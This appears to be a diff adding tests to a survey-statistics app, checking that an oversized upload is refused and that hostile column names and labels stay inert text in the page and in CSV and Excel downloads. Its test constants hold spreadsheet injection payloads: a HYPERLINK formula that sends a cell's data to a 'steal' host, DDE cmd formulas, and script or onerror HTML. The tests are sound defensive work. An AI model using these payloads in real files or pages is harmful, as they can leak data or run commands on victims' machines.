@@ -314,3 +314,146 @@ def test_a_process_killed_while_writing_the_cache_leaves_the_entry_the_app_reads
     line = _source_line(at)
     assert "local cache" in line, line                     # the entry as it was: read whole, not set aside
     pd.testing.assert_frame_equal(at.dataframe[0].value.reset_index(drop=True), live.reset_index(drop=True))
+
+
+# -- uploads to the Microdata workbench -------------------------------------------------------------------------
+HOSTILE_COLUMN = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for your results")'
+SCRIPT_COLUMN = "<script>alert('x')</script>"
+HOSTILE_LABELS = {1: '=cmd|" /C calc"!A0', 2: "<img src=x onerror=alert(1)>", 3: "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def _own_file(at, name: str, content: bytes):
+    at.switch_page("app_pages/microdata.py").run()
+    at.radio(key="md-source").set_value("own").run()
+    at.file_uploader(key="md-upload").set_value((name, content, "application/octet-stream")).run()
+    return at
+
+
+def test_a_file_too_large_for_the_memory_check_is_refused_in_plain_words_before_it_is_read(monkeypatch):
+    from evidencekit.microdata.synthetic import load_sample
+
+    monkeypatch.setenv("EVIDENCEKIT_MEMORY_LIMIT", "2MB")
+    buf = io.BytesIO()
+    load_sample().data.to_csv(buf, index=False)   # 35 061 records: about 9 MB once read
+    at = new_app()
+    at.run()
+    at = _own_file(at, "national-lfs.csv", buf.getvalue())
+    assert not at.exception
+    errors = [e.value for e in at.error]
+    assert any("national-lfs.csv" in e and "memory" in e.lower() for e in errors), errors
+    assert any(i.value.startswith("What to do:") for i in at.info)
+    assert not any("evidencekit-upload-" in e for e in errors), "the private upload folder is not shown"
+    assert "Traceback" not in texts(at)
+    assert not [b for b in at.button if b.key == "md-read"]   # nothing to read: the file was refused at once
+
+
+def _hostile_dta() -> bytes:
+    """The SYNTHETIC sample as a Stata file with hostile names and labels: a formula and a script as column
+    names, formulas and HTML as value labels of the sex column, HTML as a variable label."""
+    import tempfile
+    from pathlib import Path
+
+    from evidencekit.microdata.synthetic import load_sample
+
+    df = load_sample().data.copy()
+    df = df[[c for c in df.columns if c != "synthetic"]]
+    df["grp"] = (df["ilo_key"].astype("int64") % 3 + 1).astype("int8")
+    df["htm"] = (df["ilo_key"].astype("int64") % 2 + 1).astype("int8")
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / "hostile.dta"
+        df.to_stata(path, write_index=False, version=118, value_labels={"grp": HOSTILE_LABELS},
+                    variable_labels={"grp": HOSTILE_COLUMN[:80], "htm": SCRIPT_COLUMN})
+        return path.read_bytes()
+
+
+def test_hostile_names_and_labels_are_shown_as_text_and_exported_formula_safe():
+    """Stata allows no '=' or '<' in a column's name, but its labels may hold anything: a formula as the variable
+    label of one column, HTML as another's, formulas and HTML as value labels. Nothing of it is rendered as HTML
+    or runs as a formula in the CSV or Excel download."""
+    import openpyxl
+
+    from evidencekit import indicators, microdata
+    from ui import files
+
+    at = new_app()
+    at.run()
+    at = _own_file(at, "hostile.dta", _hostile_dta())
+    no_problem(at)
+    at.button(key="md-read").click().run()
+    no_problem(at)
+    at.multiselect(key="md-by").set_value(["grp"]).run()
+    no_problem(at)
+    page = texts(at)
+    assert "Traceback" not in page
+    # every label reached the page as text: in a table or in plain (escaped) markdown, never as HTML
+    shown = at.dataframe[0].value.astype(str).to_string()
+    assert all(label in shown for label in HOSTILE_LABELS.values()), shown
+    for el in at.markdown:
+        assert not el.proto.allow_html, el.value
+    assert not at.get("html")
+
+    # the figures the app downloads (its own writer, evidencekit.export) carry the labels as inert text
+    import tempfile
+    from pathlib import Path
+
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / "hostile.dta"
+        path.write_bytes(_hostile_dta())
+        survey = microdata.read(path, weight="ilo_wgt", strata="strata", psu="psu")
+    est = indicators.estimate(survey, "informal_employment_rate", by="grp")
+    assert set(HOSTILE_LABELS.values()) <= set(est.astype(str).stack())   # the labels are in the figures
+    import csv
+
+    text = files.frame_bytes(est, ".csv").decode("utf-8-sig")
+    rows = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
+    cells = [c for row in rows for c in row]
+    assert {f"'{v}" if v[0] in "=@" else v for v in HOSTILE_LABELS.values()} <= set(cells), rows
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")], "a cell would run as a formula"
+    book = openpyxl.load_workbook(io.BytesIO(files.frame_bytes(est, ".xlsx")))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert not (isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "@")), cell.value
+
+
+def test_hostile_column_names_in_a_csv_are_shown_as_text_and_exported_formula_safe():
+    """A CSV's header may hold anything: a formula and a script as column names, used as a breakdown."""
+    import csv
+
+    from evidencekit import indicators, microdata
+    from evidencekit.microdata.synthetic import load_sample
+    from ui import files
+
+    df = load_sample().data.drop(columns=["synthetic"])
+    df[HOSTILE_COLUMN] = df["ilo_key"].astype("int64") % 3 + 1
+    df[SCRIPT_COLUMN] = df["ilo_key"].astype("int64") % 2 + 1
+    buf = io.BytesIO()
+    df.to_csv(buf, index=False)
+    at = new_app()
+    at.run()
+    at = _own_file(at, "hostile.csv", buf.getvalue())
+    no_problem(at)
+    at.button(key="md-read").click().run()
+    no_problem(at)
+    assert HOSTILE_COLUMN in at.multiselect(key="md-by").options
+    at.multiselect(key="md-by").set_value([HOSTILE_COLUMN, SCRIPT_COLUMN]).run()
+    no_problem(at)
+    assert "Traceback" not in texts(at)
+    for el in at.markdown:
+        assert not el.proto.allow_html, el.value
+    assert not at.get("html")
+
+    import tempfile
+    from pathlib import Path
+
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / "hostile.csv"
+        path.write_bytes(buf.getvalue())
+        survey = microdata.read(path, weight="ilo_wgt", strata="strata", psu="psu")
+    est = indicators.estimate(survey, "informal_employment_rate", by=[HOSTILE_COLUMN, SCRIPT_COLUMN])
+    assert HOSTILE_COLUMN in est.columns
+    text = files.frame_bytes(est, ".csv").decode("utf-8-sig")
+    header = next(csv.reader([line for line in text.splitlines() if not line.startswith("#")][:1]))
+    assert f"'{HOSTILE_COLUMN}" in header and SCRIPT_COLUMN in header, header
+    assert not [c for c in header if c[:1] in ("=", "+", "@")]
